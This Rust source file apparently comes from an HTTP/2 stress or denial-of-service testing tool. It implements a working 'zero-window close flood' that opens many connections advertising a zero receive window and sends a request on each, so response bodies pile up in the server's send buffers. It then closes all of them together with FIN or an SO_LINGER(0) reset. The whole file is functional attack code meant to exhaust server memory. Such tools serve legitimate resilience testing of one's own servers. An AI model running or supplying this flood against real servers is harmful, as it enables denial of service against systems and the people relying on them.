//! Zero-window close flood.
//!
//! Every connection advertises `INITIAL_WINDOW_SIZE=0` and issues one
//! complete request. The server can send its response headers but no DATA:
//! the body piles up in its send buffers. Once all connections of the
//! iteration are parked in that state, they are torn down together, by FIN
//! or by an SO_LINGER(0) RST for servers that only release per-stream send
//! buffers on a graceful close.

use eyre::eyre;
use squall_h2_parse::{HeadersFlags, SettingPairs, StreamId};
use tokio::io::{AsyncRead, AsyncWrite};
use tracing::debug;

use crate::conn::{request_block, Conn};
use crate::transport::{CloseMode, Dialer, RawSock};

use super::{initial_settings, Params};

/// Handshake and request on one connection, up to the point where the
/// response body is trapped behind the zero window: preface, SETTINGS with a
/// zero initial window, exactly two inbound frames (the server's SETTINGS
/// and its ACK of ours), one fully-closed HEADERS on stream 1, then drain
/// until the response HEADERS completes its header block.
pub async fn request_and_park<IO: AsyncRead + AsyncWrite + Send + 'static>(
    conn: &mut Conn<IO>,
) -> eyre::Result<()> {
    conn.write_preface().await?;
    conn.write_settings(SettingPairs(&initial_settings(0))).await?;

    for _ in 0..2 {
        conn.read_frame()
            .await?
            .ok_or_else(|| eyre!("peer hung up during settings exchange"))?;
    }

    let block = request_block("POST", "/", "https", Some("localhost"))?;
    conn.write_headers(
        StreamId(1),
        HeadersFlags::EndStream | HeadersFlags::EndHeaders,
        &block,
    )
    .await?;

    loop {
        let (frame, _payload) = conn
            .read_frame()
            .await?
            .ok_or_else(|| eyre!("peer hung up before response headers"))?;
        if matches!(
            frame.frame_type,
            squall_h2_parse::FrameType::Headers(flags) if flags.contains(HeadersFlags::EndHeaders)
        ) {
            return Ok(());
        }
    }
}

pub async fn flood(
    cid: usize,
    dialer: &Dialer,
    close: CloseMode,
    params: &Params,
) -> eyre::Result<()> {
    let mut parked: Vec<(Conn<_>, RawSock)> = Vec::with_capacity(params.connections);

    for _ in 0..params.connections {
        let (io, sock) = match dialer.dial().await {
            Ok(conn) => conn,
            Err(e) => {
                debug!(cid, "connection error, filtered? {e}");
                return Ok(());
            }
        };

        let mut conn = Conn::new(cid, io);
        request_and_park(&mut conn).await?;
        parked.push((conn, sock));
    }

    // all connections now hold an undeliverable response body; tear them
    // down together
    for (conn, sock) in parked {
        if close == CloseMode::Rst {
            if let Err(e) = sock.linger_reset() {
                debug!(cid, "linger on closed socket: {e}");
            }
        }
        drop(conn);
    }

    Ok(())
}
